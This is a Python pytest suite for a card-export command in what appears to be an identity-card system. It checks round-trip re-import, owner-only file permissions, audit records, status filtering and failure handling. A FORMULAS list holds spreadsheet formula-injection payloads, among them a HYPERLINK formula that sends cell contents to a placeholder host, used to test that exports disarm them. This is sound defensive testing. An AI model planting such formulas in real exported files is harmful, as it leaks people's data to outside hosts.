"""`ehc cards export`: what goes out comes in again elsewhere; the file is its owner's alone."""

import csv
import json
import os
import stat
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from uuid import uuid4

import pytest
from sqlalchemy import Engine, create_engine, make_url, select, text
from sqlalchemy.orm import Session
from sqlalchemy.pool import NullPool

from ehc.commands.people import write_people
from ehc.issuer.batch import export
from ehc.keystore import secret_keys
from ehc.residents import store as residents
from ehc.residents.models import ResidentRow
from ehc.residents.store import Person
from ehc.settings import Settings
from tests.contract.helpers import secrets_of
from tests.support.imports import Imports, row, written
from tests.support.service import Service, citizen_number


@pytest.fixture
def imports(database_url: str) -> Imports:
    return Imports(database_url)


@pytest.fixture
def elsewhere(server_engine: Engine, database_url: str) -> Iterator[Imports]:
    """Another, empty system."""
    template, name = make_url(os.environ["EHC_DATABASE_URL"]).database, f"{make_url(database_url).database}_b"
    with server_engine.connect() as connection:
        connection.execute(text(f"CREATE DATABASE {name} TEMPLATE {template} STRATEGY FILE_COPY"))
    yield Imports(make_url(database_url).set(database=name).render_as_string(hide_password=False))
    with server_engine.connect() as connection:
        connection.execute(text(f"DROP DATABASE {name} WITH (FORCE)"))


def test_a_round_trip_fills_an_empty_system_with_the_same_people(
    imports: Imports, elsewhere: Imports, tmp_path: Path
) -> None:
    path, first, second = (tmp_path / name for name in ("people.csv", "first.csv", "second.csv"))
    with path.open("w", encoding="utf-8", newline="") as file:
        planted = write_people(file, 300, seed=6)
    imports.take(path)
    assert imports.run("export", str(first)).stdout == f"cards {planted.new}\n"
    assert elsewhere.take(first) == {"rows": planted.new, "made": planted.new, "known": 0, "bad": 0}
    assert elsewhere.run("export", str(second)).exit_code == 0
    assert sorted(first.read_text(encoding="utf-8").splitlines()) == sorted(
        second.read_text(encoding="utf-8").splitlines()
    )
    ids = "SELECT index_id_index FROM card ORDER BY 1"
    assert imports.rows(ids) == elsewhere.rows(ids)


def test_the_file_is_its_owners_alone_and_is_not_written_over(imports: Imports, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    imports.take(written(tmp_path, [row(1)]))
    assert imports.run("export", str(out)).exit_code == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    before = out.read_bytes()
    again = imports.run("export", str(out))
    assert (again.exit_code, "is not overwritten" in again.output) == (1, True)
    assert out.read_bytes() == before


def test_an_export_is_on_record_with_its_count(imports: Imports, tmp_path: Path) -> None:
    imports.take(written(tmp_path, [row(1), row(2)]))
    assert imports.run("export", str(tmp_path / "out.csv")).exit_code == 0
    begun, done = (json.loads(entry)["facts"] for entry in on_record(imports).values())
    assert begun.pop("export") == done.pop("export")
    assert (begun, done) == ({"statuses": ["active", "lost", "pending-review", "suspended"]}, {"cards": 2})


def on_record(imports: Imports) -> dict[str, str]:
    """The acts about exports, by name."""
    found = imports.rows("SELECT action, entry FROM audit WHERE action LIKE 'cards.export%' ORDER BY seq")
    return {each.action: each.entry for each in found}


@pytest.mark.parametrize(("options", "names"), [([], {"甲", "乙"}), (["--status", "cancelled"], {"丙"})])
def test_which_cards_go_out_follows_their_state(
    imports: Imports, tmp_path: Path, options: list[str], names: set[str]
) -> None:
    imports.take(written(tmp_path, [row(1, "甲"), row(2, "乙"), row(3, "丙")]))
    with Writing(imports) as execute:
        execute("UPDATE card SET status = 'suspended' WHERE serial = (SELECT min(serial) FROM card)")
    imports.run("export", str(tmp_path / "all.csv"))
    order = [line.split(",")[0] for line in (tmp_path / "all.csv").read_text(encoding="utf-8").splitlines()[1:]]
    gone = order.index("丙")
    with Writing(imports) as execute:
        execute("UPDATE card SET status = 'active'")
        execute(
            "UPDATE card SET status = 'cancelled', cause = 'cancelled' WHERE serial ="
            f" (SELECT serial FROM card ORDER BY serial OFFSET {gone} LIMIT 1)"
        )
    out = tmp_path / "out.csv"
    assert imports.run("export", str(out), *options).exit_code == 0
    assert {line.split(",")[0] for line in out.read_text(encoding="utf-8").splitlines()[1:]} == names


def test_an_export_is_on_record_before_anybody_is_in_the_file(
    imports: Imports, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What is killed from here on leaves a file, and a record of it."""
    imports.take(written(tmp_path, [row(1), row(2)]))
    out, seen = tmp_path / "out.csv", list[tuple[list[str], int]]()
    opened = export._opened

    def looking(*of: Any) -> Any:
        seen.append((list(on_record(imports)), out.stat().st_size))
        return opened(*of)

    monkeypatch.setattr(export, "_opened", looking)
    assert imports.run("export", str(out)).exit_code == 0
    assert seen[0] == (["cards.export-begun"], 0)


def test_an_export_that_fails_leaves_no_file_and_is_on_record_as_begun(
    imports: Imports, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    imports.take(written(tmp_path, [row(1), row(2)]))

    def broken(*_: Any) -> Any:
        raise OSError("disk full")

    monkeypatch.setattr(export, "_opened", broken)
    assert imports.run("export", str(tmp_path / "out.csv")).exit_code == 1
    assert not (tmp_path / "out.csv").exists()
    assert list(on_record(imports)) == ["cards.export-begun"]


FORMULAS = [
    '=HYPERLINK("http://a.example/?"&A1,"x")',
    "@SUM(1+1)",
    "+1",
    "-1",
    "'=1",
    "''=1",
    "' =1",
    "＝1",
    "＋1",
    "'一中'",
    "'",
    "路=1",
]


def test_what_a_spreadsheet_would_run_is_disarmed_and_comes_in_again_as_it_was(
    service: Service, imports: Imports, elsewhere: Imports, tmp_path: Path
) -> None:
    for serial, text_ in enumerate(FORMULAS):
        proof = {"method": "clerk", "reference": text_, "clerk": {"name": "李办事", "number": "0713"}}
        service.app.register(serial, address=text_, employer=text_, verification=proof, phone="+442079460958")
    foreign: dict[str, Any] = {"name": "@BABA", "id_type": "03", "id_number": "E12345678"}
    service.app.register(**foreign)
    first, second = tmp_path / "first.csv", tmp_path / "second.csv"
    assert imports.run("export", str(first)).exit_code == 0
    with first.open(encoding="utf-8", newline="") as file:
        _, *lines = csv.reader(file)
    assert not [cell for line in lines for cell in line if cell.lstrip()[:1] in {*"=+-@＝＋－＠"}]
    assert elsewhere.take(first)["made"] == len(FORMULAS) + 1
    assert elsewhere.run("export", str(second)).exit_code == 0
    assert sorted(first.read_bytes().splitlines()) == sorted(second.read_bytes().splitlines())
    before, after = people_in(imports), people_in(elsewhere)
    facts = [{(p.name, p.phone, p.address, p.employer) for p in people} for people in (before, after)]
    assert facts[0] == facts[1]
    assert {(p.address, p.employer) for p in after} == {(told, told) for told in (*FORMULAS, None)}
    assert "@BABA" in {person.name for person in after}
    evidence = elsewhere.rows("SELECT id, evidence FROM card_event WHERE evidence IS NOT NULL")
    sealer = secrets_of(service).sealer
    assert {sealer.unseal(each.evidence, f"card_event.evidence:{each.id}") for each in evidence} == set(FORMULAS)


def people_in(imports: Imports) -> list[Person]:
    """Everybody, opened. All systems of a test run share their keys."""
    engine = create_engine(imports._url, poolclass=NullPool)
    with Session(engine) as session:
        sealer = secret_keys.load(session, Settings.from_env(dict(os.environ)).key_encrypting_key()).sealer
        return [residents.open_person(each, None, sealer=sealer) for each in session.scalars(select(ResidentRow))]


def test_the_reference_of_an_export_is_that_of_a_proof_of_identity(
    service: Service, imports: Imports, tmp_path: Path
) -> None:
    proof = {"verification": {"method": "document-seen", "reference": "卷1"}}
    guardian = service.app.register(1, **proof)["card_id"]
    child = {"name": "王小宝", "id_type": "01", "id_number": citizen_number(5, born="20160501")} | proof
    body = {
        "relation": "2",
        "member": child,
        "verification": {"method": "document-seen", "reference": "户口簿"},
    }
    service.clock.advance(5)
    assert service.app.post(f"/v1/cards/{guardian}/family", body).status_code == 201
    service.clock.advance(5)
    died = (
        "INSERT INTO card_event (id, card_serial, action, new_status, level, evidence, actor, at) SELECT :id, serial,"
    )
    died += " 'deceased', status, level, :evidence, 'identity-authority', :at FROM card WHERE id = :card"
    event_id, sealer = uuid4(), secrets_of(service).sealer
    notice = sealer.seal("notice-7", f"card_event.evidence:{event_id}")
    with service.session() as session:
        session.execute(text(died), {"id": event_id, "evidence": notice, "card": guardian, "at": service.clock.now()})
    out = tmp_path / "out.csv"
    assert imports.run("export", str(out)).exit_code == 0
    with out.open(encoding="utf-8", newline="") as file:
        assert [each["reference"] for each in csv.DictReader(file)] == ["卷1", "卷1"]


class Writing:
    """Statements of the test's own."""

    def __init__(self, imports: Imports) -> None:
        self._engine = create_engine(imports._url)

    def __enter__(self) -> Any:
        self._connection = self._engine.connect()
        return self._execute

    def _execute(self, statement: str) -> None:
        self._connection.execute(text(statement))
        self._connection.commit()

    def __exit__(self, *_: object) -> None:
        self._connection.close()
        self._engine.dispose()
